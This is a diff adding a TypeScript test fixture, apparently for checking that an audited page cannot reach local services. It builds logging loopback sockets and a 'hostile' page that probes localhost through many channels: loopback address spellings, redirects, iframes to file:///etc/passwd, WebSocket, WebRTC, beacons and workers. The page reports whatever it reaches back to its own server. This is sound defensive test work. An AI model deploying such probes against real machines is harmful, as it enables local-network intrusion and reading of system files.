@@ -1,0 +1,101 @@
+import { once } from 'node:events';
+import { createSocket } from 'node:dgram';
+import { createServer, type Server } from 'node:http';
+import { type AddressInfo, createServer as createTcpServer, type Server as TcpServer } from 'node:net';
+import { join } from 'node:path';
+
+/** The product's own sockets, as an audited page must never find them: everything that arrives is written down. */
+export type Inside = { port: number; udpPort: number; unixPath: string; arrivals: string[]; close: () => Promise<void> };
+
+export async function startInside(folder: string): Promise<Inside> {
+  const arrivals: string[] = [];
+  const http = createServer((request, response) => {
+    arrivals.push(`http ${request.method} ${request.url}`);
+    response.setHeader('access-control-allow-origin', '*');
+    response.end('secret');
+  });
+  http.on('connection', () => arrivals.push('tcp'));
+  const unixPath = join(folder, 'events.sock');
+  const unix = createTcpServer((socket) => {
+    arrivals.push('unix');
+    socket.destroy();
+  });
+  const udp = createSocket('udp4');
+  udp.on('message', () => arrivals.push('udp'));
+  http.listen(0, '127.0.0.1');
+  unix.listen(unixPath);
+  udp.bind(0, '127.0.0.1');
+  await Promise.all([once(http, 'listening'), once(unix, 'listening'), once(udp, 'listening')]);
+  const close = async () => {
+    http.closeAllConnections();
+    udp.close();
+    await Promise.all([closed(http), closed(unix)]);
+  };
+  return { port: (http.address() as AddressInfo).port, udpPort: udp.address().port, unixPath, arrivals, close };
+}
+
+/** A site that tries every way in that a page has; what it got it tells its own server. */
+export async function startHostileSite(inside: Inside): Promise<{ port: number; told: string[]; close: () => Promise<void> }> {
+  const told: string[] = [];
+  const server = createServer((request, response) => {
+    const url = new URL(request.url ?? '/', 'http://hostile.test');
+    if (url.pathname === '/told') told.push(decodeURIComponent(url.search.slice(1)));
+    if (url.pathname === '/redirect') return void response.writeHead(302, { location: `http://127.0.0.1:${inside.port}/redirected` }).end();
+    if (url.pathname === '/refresh') return void response.writeHead(200, { 'content-type': 'text/html', refresh: `0; url=http://127.0.0.1:${inside.port}/refreshed` }).end();
+    if (url.pathname === '/worker.js') return void response.writeHead(200, { 'content-type': 'text/javascript' }).end(`for (const url of ${JSON.stringify(waysIn(inside))}) fetch(url, { mode: 'no-cors' }).catch(() => {});`);
+    if (url.pathname === '/') return void response.writeHead(200, { 'content-type': 'text/html', link: `<http://127.0.0.1:${inside.port}/>; rel=preconnect` }).end(hostilePage(inside));
+    response.end();
+  }).listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  return {
+    port: (server.address() as AddressInfo).port,
+    told,
+    close: async () => {
+      server.closeAllConnections();
+      await closed(server);
+    },
+  };
+}
+
+/** Every spelling of this machine, its metadata, and names that lead to it. */
+function waysIn({ port }: Inside): string[] {
+  const hosts = ['127.0.0.1', 'localhost', 'any.localhost', '127.1', '2130706433', '0x7f000001', '0177.0.0.1', '0.0.0.0', '[::1]', '[::ffff:127.0.0.1]', '[::]', 'rebinding.test', 'inside.test', 'localhost.'];
+  return hosts.map((host) => `http://${host}:${port}/${encodeURIComponent(host)}`);
+}
+
+function hostilePage(inside: Inside): string {
+  const { port, udpPort, unixPath } = inside;
+  return `<!doctype html><html lang=en><title>Hostile</title>
+<link rel=preconnect href="http://127.0.0.1:${port}"><link rel=prefetch href="http://127.0.0.1:${port}/prefetch"><link rel=stylesheet href="http://127.0.0.1:${port}/style">
+<img src="http://127.0.0.1:${port}/image"><img src="/redirect"><iframe src="/redirect"></iframe><iframe src="/refresh"></iframe><iframe src="http://127.0.0.1:${port}/frame"></iframe>
+<iframe src="file://${unixPath}"></iframe><iframe src="file:///etc/passwd"></iframe><iframe src="view-source:http://127.0.0.1:${port}/source"></iframe><a href="http://127.0.0.1:${port}/link?hostile.test" ping="http://127.0.0.1:${port}/ping">on</a>
+<form action="http://127.0.0.1:${port}/form" method=post target=f><input name=a></form><iframe name=f></iframe>
+<script>
+const told = (what) => fetch('/told?' + encodeURIComponent(what));
+const attempt = async (name, act) => { let got; try { got = String(await act()) } catch (error) { got = 'refused' } told(name + ': ' + got) };
+for (const url of ${JSON.stringify(waysIn(inside))}) attempt(url, () => fetch(url).then((answer) => answer.ok ? answer.text() : 'refused'));
+attempt('redirect', () => fetch('/redirect').then((answer) => answer.ok ? answer.text() : 'refused'));
+attempt('file', () => fetch('file://${unixPath}').then(() => 'read'));
+attempt('websocket', () => new Promise((resolve, reject) => { const socket = new WebSocket('ws://127.0.0.1:${port}/socket'); socket.onopen = () => resolve('open'); socket.onerror = reject }));
+attempt('events', () => new Promise((resolve, reject) => { const source = new EventSource('http://127.0.0.1:${port}/events'); source.onopen = () => resolve('open'); source.onerror = () => { source.close(); reject() } }));
+attempt('beacon', () => navigator.sendBeacon('http://127.0.0.1:${port}/beacon', 'x') && 'queued');
+attempt('transport', () => new WebTransport('https://127.0.0.1:${udpPort}/').ready.then(() => 'open'));
+attempt('rtc', async () => {
+  const peer = new RTCPeerConnection({ iceServers: [{ urls: ['stun:127.0.0.1:${udpPort}', 'stun:127.0.0.1:${port}?transport=tcp'].slice(0, 1) }, { urls: ['turn:127.0.0.1:${udpPort}?transport=udp', 'turn:127.0.0.1:${port}?transport=tcp', 'turns:127.0.0.1:${port}?transport=tcp'], username: 'a', credential: 'b' }] });
+  const candidates = [];
+  peer.onicecandidate = ({ candidate }) => candidate && candidates.push(candidate.candidate);
+  peer.createDataChannel('x');
+  await peer.setLocalDescription(await peer.createOffer());
+  await peer.addIceCandidate({ candidate: 'candidate:1 1 udp 2130706431 127.0.0.1 ${udpPort} typ host', sdpMid: '0', sdpMLineIndex: 0 }).catch(() => {});
+  await new Promise((resolve) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve(); setTimeout(resolve, 1500) });
+  return candidates.length + ' candidates';
+});
+new Worker('/worker.js');
+document.forms[0].submit();
+attempt('end', () => new Promise((resolve) => setTimeout(() => resolve('reached'), 1800)));
+</script>`;
+}
+
+function closed(server: Server | TcpServer): Promise<unknown> {
+  return new Promise((resolve) => { server.close(resolve); });
+}
